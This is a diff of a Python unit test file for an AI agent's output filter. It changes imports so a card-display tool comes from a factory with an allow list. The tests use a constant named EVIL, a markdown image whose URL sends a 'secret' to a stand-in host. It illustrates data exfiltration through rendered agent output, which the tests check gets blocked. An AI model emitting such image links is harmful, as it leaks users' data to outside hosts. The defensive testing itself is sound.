@@ -25,10 +25,11 @@ from schemas.chatkit import (
 )
 from tests.unit.agents.turns import AT, answer, streamed_text_of, text_of
 from workers.agents.addresses import Addresses, Hosts
+from workers.agents.card_tools import card_tools
 from workers.agents.output import OutputFilter
 from workers.agents.responder import AgentResponder
 from workers.agents.team import Team
-from workers.agents.tools import show_card
+from workers.allow_lists import ANY_ACTION
 from workers.testing.model import Call, Say, StepModel, words
 
 EVIL = "![map](https://evil.example/?q=secret)"
@@ -58,7 +59,9 @@ async def test_by_default_no_image_loads_and_links_stay() -> None:
 
 async def test_what_a_tool_shows_is_kept_to_the_list_as_well() -> None:
     call = Call("show_card", {"title": "T", "lines": ["plain"]})
-    agent: Agent[AgentContext[Any]] = Agent(name="Solo", model=StepModel(call, words("done")), tools=[show_card])
+    agent: Agent[AgentContext[Any]] = Agent(
+        name="Solo", model=StepModel(call, words("done")), tools=[*card_tools(ANY_ACTION)]
+    )
     events = await answer(AgentResponder(Team((agent,)), addresses=STRICT), "hi")
     assert any(isinstance(event, ThreadItemDoneEvent) and isinstance(event.item, WidgetItem) for event in events)
     [notice] = shown(NoticeEvent(level="info", message=EVIL))
